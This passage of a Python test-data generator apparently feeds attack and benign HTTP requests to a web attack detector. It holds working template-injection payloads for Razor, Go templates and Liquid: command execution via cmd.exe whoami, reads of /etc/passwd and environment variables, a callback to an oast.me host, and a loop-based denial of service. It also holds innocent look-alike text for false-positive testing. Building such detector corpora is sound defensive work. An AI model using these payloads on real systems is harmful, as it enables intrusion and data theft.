    "@(7*7)",
    "@DateTime.Now",
    "@{var x=7*7;}@x",
    "@Environment.UserName",
    "@{Environment.Exit(0);}",
    "@Environment.MachineName",
    "@Environment.CurrentDirectory",
    "@{System.Threading.Thread.Sleep(9000);}",
    "@System.IO.File.ReadAllText(\"/etc/passwd\")",
    "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")",
]

# Go text/template and html/template parsing input (template.New().Parse(input)); Hugo's functions where named;
# Echo's context passed as the data (its File method)
GO_TEMPLATES = [
    "{{.}}",
    "{{print .}}",
    "{{printf \"%#v\" .}}",
    "{{ getenv \"PATH\" }}",
    "{{ os.Getenv \"HOME\" }}",
    "{{ .File \"/etc/passwd\" }}",
    "{{ readFile \"/etc/passwd\" }}",
    "{{range $k,$v:=.}}{{$k}} {{end}}",
    "{{ resources.GetRemote \"http://a.oast.me\" }}",
    "{{define \"a\"}}<script>alert(1)</script>{{end}}{{template \"a\"}}",
]

# Liquid (Jekyll, liquidjs before its path checks): input parsed as a template
LIQUID = [
    "{{page}}",
    "{{ site }}",
    "{{7|times:7}}",
    "{{'now'|date:'%s'}}",
    "{{ site | jsonify }}",
    "{% layout '/etc/passwd' %}",
    "{% include '../../../etc/passwd' %}",
    "{% render '../../../../etc/passwd' %}",
    "{% include_relative ../../../../etc/passwd %}",
    "{% for i in (1..99999999) %}{{i}}{% endfor %}",
]

FAMILIES: list[tuple[str, str, list[str]]] = [
    ("generic", "nodejs-injection", NODE),
    ("generic", "nodejs-dos", NODE_DOS),
    ("generic", "ssrf-cloud-metadata", SSRF_METADATA),
    ("generic", "ssrf-internal-ip", SSRF_IP),
    ("generic", "javascript-prototype-pollution", POLLUTION),
    ("generic", "ruby-injection", RUBY),
    ("generic", "perl-injection", PERL),
    ("generic", "php-data-scheme", PHP_DATA),
    ("java", "java-class-names", JAVA_CLASS),
    ("java", "java-process-spawn", JAVA_SPAWN),
    ("java", "java-serialization", JAVA_SER),
    ("java", "java-deserialization-gadgets", JAVA_GADGET),
    ("java", "log4shell", LOG4J),
    ("java", "expression-language", JAVA_EL),
    ("java", "java-polymorphic-payloads", JAVA_POLY),
    ("java", "class-loading", CLASS_LOADING),
    ("java", "jsp-upload", JSP_UPLOAD),
    ("ssti", "jinja2", JINJA2),
    ("ssti", "twig", TWIG),
    ("ssti", "freemarker", FREEMARKER),
    ("ssti", "velocity", VELOCITY),
    ("ssti", "thymeleaf", THYMELEAF),
    ("ssti", "erb", ERB),
    ("ssti", "smarty", SMARTY),
    ("ssti", "handlebars", HANDLEBARS),
    ("ssti", "pug", PUG),
    ("ssti", "mako", MAKO),
    ("ssti", "tornado", TORNADO),
    ("ssti", "nunjucks", NUNJUCKS),
    ("ssti", "ejs", EJS),
    ("ssti", "pebble", PEBBLE),
    ("ssti", "razor", RAZOR),
    ("ssti", "go-templates", GO_TEMPLATES),
    ("ssti", "liquid", LIQUID),
]
# written as `name=value` (or a bare parameter name): sent unquoted as parameters
RAW_KV_SUBS = {"javascript-prototype-pollution", "class-loading"}
# whole documents: JSON / XML / YAML bodies
KV_NAME = re.compile(r"^[\w.\[\]' ]+=")
DOC_SUBS = {"javascript-prototype-pollution", "java-deserialization-gadgets", "java-polymorphic-payloads"}

# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    names = ["q", "url", "name", "template", "callback", "filter", "data", "sort", "message"]
    boundary = "----WebKitFormBoundaryQ3hT9xLm2VbZ8pKc"
    kv_safe = "=&[]._-:/'*$!(),;{}~@%"
    upload = JSP_BODY
    documents = True   # XStream and XMLDecoder payloads are the document
    raw_places = ("query", "form", "param-name", "rs-query", "rs-param-name")

    def entries(self) -> Iterator[tuple[int, int, str, str, Entry]]:
        for s, i, category, sub, entry in super().entries():
            if isinstance(entry, str) and (fixed := _fixed_places(sub, entry)):
                entry = (entry, *fixed)
            yield s, i, category, sub, entry

    def cycles(self, category: str, sub: str, payload: str) -> Cycles:
        if self.is_latin(sub, payload):   # bytes: only percent-encoded carriers
            return ["query", "form", "param-name"], ["rs-query", "rs-form", "rs-raw-body"]
        if self.is_raw(sub, payload, False):   # `name=value`: where a parameter is named
            return ["form", "param-name", "query"], ["rs-param-name", "rs-raw-body", "rs-query"]
        return self.real_cycle, self.rs_cycle

    def is_latin(self, sub: str, payload: str) -> bool:
        return not all(" " <= ch <= "~" or ch == "\n" for ch in payload)

    def is_raw(self, sub: str, payload: str, fixed: bool) -> bool:
        return sub in RAW_KV_SUBS and KV_NAME.match(payload) is not None

    def _p_query(self, p: Put) -> Record:
        if p.raw:   # the list parameter stays after a raw payload here
            return _get("/api/users?" + self._raw(p) + self.tail)
        return super()._p_query(p)


SET = _Set()


def _fixed_places(sub: str, v: str) -> tuple[str, str] | None:
    """Payloads that only work in one kind of place: documents, uploads."""
    if sub == "jsp-upload":
        return "multipart-filename", "rs-multipart-filename"
    if sub in DOC_SUBS:
        if v.startswith("!!") or v.startswith("{!!"):
            return "yaml-body", "rs-yaml-body"
        if v.startswith(("{", "[")):
            return "json-body", "rs-json-body"
        if v.startswith("<"):
            return "xml", "rs-xml"
    return None


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently (Slack chat and bios, searches, admin notes, links, profiles, uploads)
CHAT = [
    # Node.js
    "the import job leaks memory: heap snapshot shows a huge Map in the cache module",
    "switched the thumbnailer from exec to spawn so stdout streams instead of buffering",
    "process.env.PORT is undefined in the container, the compose file has the wrong var name",
    "who owns the require() of the legacy config? it pulls in the whole lodash",
    "we pin Node 20.11 in .nvmrc, CI was on 18 and the fetch() global was missing",
    "__dirname is not defined in ES modules, use import.meta.url and fileURLToPath",
    "the worker crashes with 'JavaScript heap out of memory', bumped --max-old-space-size to 4096",
    "added a timeout to the regex validation after the CPU spike on Tuesday",
    "can someone review my PR that removes the last eval() from the report builder?",
    "Buffer.alloc vs Buffer.allocUnsafe: alloc zero-fills, use it for anything user facing",
    "npm audit flags an old qs version in the sandbox app, upgrading express fixes it",
    "lodash.merge was bumped to 4.6.2 for the prototype pollution advisory",
    "the event loop lag metric is in Grafana now, dashboard 'node runtime'",
    "process.exit() in the middle of a request handler skips the graceful shutdown, please don't",
    # SSRF / networking
    "the webhook tester refuses private IPs now, use the public requestbin for demos",
    "dev database is on localhost:5433, not the default port",
    "EC2 instances use IMDSv2 only since the hardening sprint, tokens are required",
    "the GCP service account for exports has read-only access to the bucket",
    "Azure VM metadata is only reachable from inside the VM, the portal shows the same data",
    "redis on 127.0.0.1:6380 in dev, the password is in .run/secrets",
    "our office printer is 192.168.1.20 if the driver asks for an IP",
    "the Docker bridge network is 172.17.0.0/16, don't reuse it for the VPN",
    "the link preview fetcher follows at most 3 redirects and drops file:// links",
    "Elasticsearch on 9200 is only bound to loopback on the staging box",
    # Ruby / Perl / PHP
    "Rails 7.1 upgrade: the secret_key_base moved to credentials.yml.enc",
    "YAML.load became safe_load by default in Psych 4, the importer needed permitted_classes",
    "the ERB mailer templates live in app/views/user_mailer",
    "the Perl invoice script still runs every night via cron, owner is finance ops",
    "open3 in Ruby is nicer than backticks when you need stderr separately",
    "the PHP shop still uses Smarty 3 for the product pages",
    "data: URLs for the small icons saved 12 requests on the landing page",
    "PHP 8.2 deprecates dynamic properties, the plugin prints warnings",
    # Java
    "Log4j is 2.17.1 on every service, the SBOM report confirms it",
    "Spring Boot 3.2 upgrade needs Jakarta namespaces, javax imports must go",
    "the batch job uses ProcessBuilder to call pg_dump with a fixed argument list",
    "Runtime.getRuntime().availableProcessors() returns the host count in old JDKs, not the cgroup limit",
    "Jackson: keep default typing off, we use @JsonTypeInfo with a whitelist",
    "the Tomcat upgrade to 10.1 broke the old JSP tag library",
    "fastjson was replaced with Jackson in the mobile gateway last quarter",
    "XStream allowlist configured, only our DTO packages are permitted",
    "the Struts 2 app is decommissioned on Friday, archive its logs",
    "SpEL in @Value annotations is fine, just never parse user input with it",
    "the ClassLoader leak warning in catalina.out comes from the JDBC driver",
    "Groovy scripts in Jenkins need script approval since the plugin update",
    "ObjectInputStream filters are enabled with jdk.serialFilter in the JVM args",
    "JNDI lookups in log messages are disabled since 2.15, nothing to do",
    # templates
    "the Jinja2 template for the weekly digest has a typo in the footer",
    "Twig debug mode must stay off in production, dump() leaks context",
    "FreeMarker templates for the invoices are in src/main/resources/templates",
    "Velocity was removed from the report service, Thymeleaf everywhere now",
    "Thymeleaf fragment for the header: th:replace=\"fragments/header :: header\"",
    "Handlebars partials are registered at boot, see views/partials",
    "the Pug templates still use tabs, prettier complains",
    "Mako is only used by the old Pyramid admin, nobody touches it",
    "Tornado websocket gateway has no templates at all",
    "Nunjucks builds the docs site, run npm run docs to preview",
    "EJS status page: <%= status %> placeholders are filled by the health job",
    "Pebble templates render the PDF invoices in the billing service",
    "Razor views for the partner portal are in Views/Partners",
    "Go html/template escapes by context, that's why the link showed as #ZgotmplZ",
    "Liquid email templates in Shopify use {{ customer.first_name }}",
    "Jekyll site build fails because the _config.yml has a tab",
    # everyday
    "meeting moved to 3pm, same room",
    "can someone restart the staging worker? it's stuck on the import",
    "lunch order closes at 11:30, the form is pinned in #office",
    "I'll be out Thursday, Anna covers the on-call",
    "release notes for 4.12 are drafted, please add your bullet points",
    "the customer from Ruby Street called again about the invoice",
    "the Java meetup is at our office next Wednesday, pizza provided",
    "new hire onboarding doc updated, see the Confluence page",
]
SEARCHES = [
    "node", "nodejs", "child process", "require", "process", "eval", "regex", "timeout", "buffer", "heap",
    "metadata", "aws", "gcp", "azure", "alibaba", "digitalocean", "oracle", "localhost", "127.0.0.1",
    "192.168.1.20", "ipv6", "gopher", "dict", "file", "prototype", "constructor", "lodash", "ruby", "rails",
    "perl", "cpan", "php", "data url", "java", "runtime", "process builder", "classloader", "log4j", "jndi",
    "spring", "struts", "ognl", "spel", "jackson", "fastjson", "xstream", "tomcat", "jsp", "jinja2", "twig",
    "freemarker", "velocity", "thymeleaf", "erb", "smarty", "handlebars", "pug", "mako", "tornado", "nunjucks",
    "ejs", "pebble", "razor", "go template", "liquid", "jekyll", "Ruby Okafor", "Perl Andersson", "Jade Java",
    "Björn Åström", "O'Connor", "smith", "anna", "support@example.org",
]
PROSE = [
    "Customer reports the export stops at 80%. Logs show a timeout from the Node worker; retried successfully.",
    "Please update the billing address for Ruby Street Bakery to 14 Ruby Street, Leeds.",
    "The Java client library 3.2 is compatible with our API v2; older versions need the legacy endpoint.",
    "Account locked after five failed logins; unlocked after identity check by phone.",
    "User asked for the data processing agreement; sent the signed PDF.",
    "Refund approved for order 58812, double charge caused by a retry in the payment process.",
    "The template for the renewal email still says 2023; fixed in the CMS.",
    "Partner wants the webhook to call their endpoint on port 8443; added to the allowlist.",
    "Metadata on the uploaded photos (GPS) is stripped before they are stored.",
    "Escalated: customer cannot reach the status page from their corporate network.",
    "The runtime of the nightly report went from 4 to 11 minutes after the data migration.",
    "Spring promotion: 20% off annual plans until 31 May.",
    "The constructor company Brick & Beam Ltd asked for a quote for 40 seats.",
    "Perl Andersson changed her last name; updated the profile and the invoices.",
    "Prototype of the new dashboard is ready for user testing on Monday.",
    "Class schedule for the Python and Java workshops is in the shared calendar.",
    "The process for offboarding now includes revoking the API tokens.",
    "Customer says the page loads slowly on Safari; could not reproduce on 17.4.",
    "Invoice 2024-0193 was sent to the wrong email; resent to accounts@.",
    "Please merge the duplicate accounts of Jade Thompson (same email, two sign-ups).",
    "The razor blade supplier changed their shipping address; updated the vendor record.",
    "Liquid soap and paper towels reordered for the office kitchen.",
    "Tornado warning in Oklahoma: the Tulsa team works from home today.",
    "Pebble smartwatch integration is no longer maintained; removed from the docs.",
    "The Velocity Cycling Club asked about a group discount.",
    "Our Thyme & Basil restaurant client wants a second admin account.",
    "Handlebar Mustache Co. renewed for two years.",
    "Jinja Café in Kyoto booked the premium plan.",
    "The smarty pants comment in the feedback form was not offensive; no action.",
    "Mako shark documentary night for the team is on the 12th.",
    "Escalation path: support, then the on-call engineer, then the incident manager.",
    "System maintenance window is Sunday 02:00-04:00 UTC.",
    "Exported 1,204 users to CSV for the audit; file is in the secure share.",
    "The API returned 502 for about 40 seconds during the deploy; no data lost.",
    "Backup restore test succeeded; restore took 22 minutes.",
    "Reminder: rotate the shared demo password after the trade show.",
    "Support ticket about the Go SDK: the client retries on 429 now.",
    "The Ruby SDK 2.0 drops support for Ruby 2.7.",
    "The Node SDK's README shows an old require path; docs PR opened.",
    "Translated the help center article on template variables into German.",
]
URLS = [
    "https://nodejs.org/api/process.html#processenv",
    "https://nodejs.org/api/child_process.html#child_processspawncommand-args-options",
    "https://nodejs.org/en/learn/asynchronous-work/dont-block-the-event-loop",
    "https://github.com/advisories?query=prototype+pollution",
    "https://owasp.org/www-community/attacks/Server_Side_Request_Forgery",
    "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/configuring-instance-metadata-service.html",
    "https://cloud.google.com/compute/docs/metadata/querying-metadata",
    "https://www.alibabacloud.com/help/en/ecs/user-guide/overview-of-ecs-instance-metadata",
    "https://ruby-doc.org/3.3.0/Kernel.html#method-i-open",
    "https://guides.rubyonrails.org/security.html",
    "https://perldoc.perl.org/perlsec",
    "https://www.php.net/manual/en/wrappers.data.php",
    "https://logging.apache.org/log4j/2.x/security.html",
    "https://spring.io/security/cve-2022-22965",
    "https://docs.spring.io/spring-framework/reference/core/expressions/language-ref.html",
    "https://struts.apache.org/security/",
    "https://github.com/FasterXML/jackson-docs/wiki/JacksonPolymorphicDeserialization",
    "https://x-stream.github.io/security.html",
    "https://tomcat.apache.org/tomcat-10.1-doc/jasper-howto.html",
    "https://docs.oracle.com/en/java/javase/21/core/serialization-filtering1.html",
    "https://jinja.palletsprojects.com/en/3.1.x/sandbox/",
    "https://twig.symfony.com/doc/3.x/api.html#sandbox-extension",
    "https://freemarker.apache.org/docs/app_faq.html#faq_template_uploading_security",
    "https://www.thymeleaf.org/doc/articles/standarddialect5minutes.html",
    "https://handlebarsjs.com/api-reference/runtime-options.html#options-to-control-prototype-access",
    "https://mozilla.github.io/nunjucks/api.html#autoescaping",
    "https://pkg.go.dev/html/template",
    "https://shopify.github.io/liquid/basics/introduction/",
    "https://portswigger.net/web-security/server-side-template-injection",
    "https://github.com/acme/billing/pull/482",
    "https://status.example.com/",
    "https://example.org/careers/java-engineer-berlin",
]
PROFILES = [
    ("Ruby Okafor", "14 Ruby Street, Leeds"),
    ("Perl Andersson", "Storgatan 12, Uppsala"),
    ("Jade Java", "Jl. Sudirman 5, Jakarta"),
    ("Tomcat Veterinary Clinic", "2 Kitten Lane, Bristol"),
    ("Spring Garden Nursery", "Spring Road 40, Cork"),
    ("Node Coffee", "Knotenweg 7, Hamburg"),
    ("Velocity Couriers", "Unit 3, Ringway, Manchester"),
    ("Twig & Branch Florists", "Market Street 9, Bath"),
    ("Mako Surf School", "Beach Rd 1, Byron Bay"),
    ("Thyme & Basil", "Rue des Herbes 4, Lyon"),
    ("Pug Palace Grooming", "Dog Lane 12, Austin, TX"),
    ("Liquid Gold Oils", "Via Olivo 3, Bari"),
    ("Razor Sharp Barbers", "High St 77, Croydon"),
    ("Pebble Creek Golf", "Fairway Dr 2, Boulder, CO"),
    ("Tornado Tacos", "Main St 415, Wichita, KS"),
    ("Smarty Tutoring", "School Rd 8, Leicester"),
    ("Handlebar Cycles", "Fahrradstraße 2, Münster"),
    ("Metadata Labs AB", "Kungsgatan 30, Stockholm"),
    ("Process Street Café", "Process St 1, Melbourne"),
    ("Constructor Group SA", "Av. Libertador 1200, Buenos Aires"),
    ("Siân Ó Broin", "Quay St 5, Galway"),
    ("Łukasz Wójcik", "ul. Długa 3, Gdańsk"),
]
UPLOAD_NAMES = [
    "q2-report.pdf", "profile.jpg", "contract-signed.pdf", "team offsite.png", "users.csv", "logo@2x.png",
    "jsp-to-thymeleaf-migration.pdf", "log4j-audit-2024.xlsx", "java-17-upgrade-plan.docx", "spring-boot.pdf",
    "template_invoice.html", "node-runbook.md", "ruby-on-rails-guide.pdf", "perl_scripts_inventory.csv",
    "prototype-v3.fig", "process diagram.vsdx", "metadata.json", "class-photo-2024.jpg", "razor-pages.pptx",
    "liquid-email-preview.png",
]
BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:126.0) Gecko/20100101 Firefox/126.0"),
    ("User-Agent", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.5 Mobile/15E148 Safari/604.1"),
    ("User-Agent", "node"),
    ("User-Agent", "undici"),
    ("User-Agent", "Java-http-client/21.0.3"),
    ("User-Agent", "Apache-HttpClient/4.5.14 (Java/17.0.11)"),
    ("User-Agent", "Ruby/3.3.1 Net::HTTP"),
    ("User-Agent", "HTTP-Tiny/0.088"),
    ("User-Agent", "GuzzleHttp/7"),
    ("User-Agent", "Go-http-client/1.1"),
    ("User-Agent", "PostmanRuntime/7.39.0"),
    ("Referer", "https://app.example.com/admin/users/search?q=ruby"),
    ("Referer", "https://www.bing.com/search?q=spring+boot+template+engine"),
    ("Referer", "https://github.com/acme/api/issues/77"),
    ("Referer", "https://docs.example.com/api/templates#variables"),
    ("X-Api-Version", "2024-06-01"),
    ("X-Request-Id", "req-7f3a9c21-export"),
    ("Accept-Language", "de-DE,de;q=0.9,en;q=0.7"),
    ("Cookie", "session=abc123; ui_lang=fr; recent=java%2Cspring"),
    ("Cookie", "session=abc123; theme=light; tpl=invoice-v2"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
